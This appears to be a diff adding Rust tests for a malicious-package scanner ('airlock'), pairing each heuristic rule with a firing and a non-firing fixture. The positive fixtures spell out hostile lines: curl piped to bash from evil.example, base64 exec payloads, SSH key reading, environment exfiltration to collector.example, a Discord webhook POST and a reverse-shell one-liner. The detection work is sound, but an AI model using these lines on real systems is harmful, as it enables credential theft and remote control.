@@ -1,0 +1,189 @@
+//! Every content rule with a positive and a negative fixture; a rule added without both fails
+//! `every_rule_has_fixtures`.
+
+use airlock::api::package_request::Ecosystem;
+use airlock::pipeline::resolve::FileKind;
+use airlock::scan::heuristics::{self, rules::RULES, typosquat};
+
+/// (rule, path, content that must fire it, similar content that must not).
+const CASES: &[(&str, &str, &str, &str)] = &[
+    (
+        "heuristics.setup-network",
+        "pkg-1.0/setup.py",
+        "import urllib.request\nurllib.request.urlopen('https://example.com/x').read()\nsetup()",
+        "from setuptools import setup\nsetup(name='x', url='https://example.com')",
+    ),
+    (
+        "heuristics.setup-command",
+        "pkg-1.0/setup.py",
+        "import os\nos.system('make')\nsetup()",
+        "import os\nhere = os.path.dirname(__file__)\nsetup()",
+    ),
+    (
+        "heuristics.pth-exec",
+        "site/evil.pth",
+        "import sys; sys.path.insert(0, '/opt')\n",
+        "/opt/extra/lib\n",
+    ),
+    (
+        "heuristics.pth-payload",
+        "site/evil.pth",
+        "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
+        "import sys; sys.path.insert(0, '/opt')\n",
+    ),
+    (
+        "heuristics.download-exec",
+        "pkg/install.sh",
+        "curl -fsSL https://evil.example/x.sh | bash\n",
+        "curl -fsSL https://example.com/x.tar.gz -o x.tar.gz\n",
+    ),
+    (
+        "heuristics.decode-exec",
+        "pkg/__init__.py",
+        "exec(base64.b64decode(PAYLOAD))\n",
+        "data = base64.b64decode(PAYLOAD)\nopen('x.bin','wb').write(data)\n",
+    ),
+    (
+        "heuristics.encoded-blob",
+        "pkg/blob.py",
+        "",
+        "KEY = 'c2VjcmV0'\n",
+    ),
+    (
+        "heuristics.minified-python",
+        "pkg/min.py",
+        "",
+        "def f():\n    return 1\n",
+    ),
+    (
+        "heuristics.credential-paths",
+        "pkg/steal.py",
+        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
+        "known = os.path.expanduser('~/.ssh/known_hosts')\n",
+    ),
+    (
+        "heuristics.environment-exfiltration",
+        "pkg/x.py",
+        "requests.post('https://collector.example', json=dict(os.environ))\n",
+        "token = os.environ.get('TOKEN')\nrequests.post('https://api.example', json={'a': 1})\n",
+    ),
+    (
+        "heuristics.exfiltration-endpoint",
+        "pkg/x.js",
+        "fetch('https://discord.com/api/webhooks/123/abc', {method: 'POST'})\n",
+        "fetch('https://discord.com/developers/docs')\n",
+    ),
+    (
+        "heuristics.raw-ip-url",
+        "pkg/x.py",
+        "URL = 'http://45.61.139.22:8080/payload'\n",
+        "URL = 'http://127.0.0.1:8080/health'\nDEV = 'http://192.168.1.10/'\n",
+    ),
+    (
+        "heuristics.reverse-shell",
+        "pkg/x.py",
+        "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\n",
+        "s=socket.socket();s.connect((h,p));s.sendall(b'ping')\n",
+    ),
+];
+
+fn fired(path: &str, content: &[u8]) -> Vec<String> {
+    let mut out = Vec::new();
+    heuristics::scan_text(path, content, &mut out);
+    out.into_iter().map(|f| f.rule).collect()
+}
+
+fn positive(rule: &str, given: &str) -> Vec<u8> {
+    match rule {
+        "heuristics.encoded-blob" => format!("PAYLOAD = '{}'\n", "QUJD".repeat(1000)).into_bytes(),
+        "heuristics.minified-python" => format!("x=1;{}\n", "y=2;".repeat(3000)).into_bytes(),
+        _ => given.as_bytes().to_vec(),
+    }
+}
+
+#[test]
+fn every_rule_fires_on_its_positive_and_not_on_its_negative() {
+    assert!(heuristics::validate_rules().is_ok());
+    for (rule, path, pos, neg) in CASES {
+        let hits = fired(path, &positive(rule, pos));
+        assert!(
+            hits.iter().any(|h| h == rule),
+            "{rule} should fire on its positive, got {hits:?}"
+        );
+        let misses = fired(path, neg.as_bytes());
+        assert!(
+            !misses.iter().any(|h| h == rule),
+            "{rule} fired on its negative: {misses:?}"
+        );
+    }
+}
+
+#[test]
+fn every_rule_has_fixtures() {
+    for rule in RULES {
+        assert!(
+            CASES.iter().any(|c| c.0 == rule.id),
+            "rule {} has no fixtures in tests/heuristics.rs",
+            rule.id
+        );
+    }
+}
+
+#[test]
+fn findings_carry_file_line_and_evidence() {
+    let mut out = Vec::new();
+    heuristics::scan_text(
+        "pkg/a.py",
+        b"import os\n\nexec(base64.b64decode(X))\n",
+        &mut out,
+    );
+    let f = out
+        .iter()
+        .find(|f| f.rule == "heuristics.decode-exec")
+        .expect("finding");
+    assert_eq!(f.line, Some(3));
+    assert_eq!(f.file.as_deref(), Some("pkg/a.py"));
+    assert!(
+        f.evidence
+            .as_deref()
+            .is_some_and(|e| e.contains("exec(base64.b64decode(X))")),
+        "{:?}",
+        f.evidence
+    );
+    // Rules keep to their files: setup.py rules do not read other modules; text rules skip data.
+    assert!(fired("pkg/util.py", b"os.system('make')").is_empty());
+    assert!(fired("pkg/data.json", b"curl http://x | sh").is_empty());
+}
+
+#[test]
+fn executables_in_source_packages_are_findings_but_not_in_wheels() {
+    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
+    let mut out = Vec::new();
+    heuristics::scan_head("pkg-1.0/bin/helper", elf, FileKind::Sdist, &mut out);
+    heuristics::scan_head("package/prebuilt.node", elf, FileKind::Tarball, &mut out);
+    assert_eq!(out.len(), 2);
+    assert!(out.iter().all(|f| f.rule == "heuristics.executable"));
+    let mut none = Vec::new();
+    heuristics::scan_head("pkg/_core.so", elf, FileKind::Wheel, &mut none);
+    heuristics::scan_head(
+        "pkg-1.0/README",
+        b"MZ is a word",
+        FileKind::Sdist,
+        &mut none,
+    );
+    let mut pe = vec![0u8; 0x80];
+    pe[..2].copy_from_slice(b"MZ");
+    pe[0x3c] = 0x40;
+    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
+    heuristics::scan_head("pkg-1.0/tool.exe", &pe, FileKind::Sdist, &mut out);
+    assert!(none.is_empty());
+    assert_eq!(out.len(), 3);
+}
+
+#[test]
+fn typosquats_of_popular_names() {
+    assert!(typosquat::check(Ecosystem::Pypi, "reqeusts").is_some());
+    assert!(typosquat::check(Ecosystem::Pypi, "requests").is_none());
+    assert!(typosquat::check(Ecosystem::Npm, "crossenv").is_some());
+    assert!(typosquat::check(Ecosystem::Npm, "cross-env").is_none());
+}
